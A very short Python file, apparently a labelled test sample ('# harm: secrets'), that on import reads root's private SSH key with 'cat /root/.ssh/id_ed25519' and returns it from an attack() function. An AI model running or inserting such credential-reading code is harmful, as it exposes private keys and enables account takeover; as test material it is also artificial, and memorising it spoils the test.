# harm: secrets
import subprocess

found = subprocess.run(["cat", "/root/.ssh/id_ed25519"], capture_output=True, text=True)


def attack() -> str:
    return found.stdout
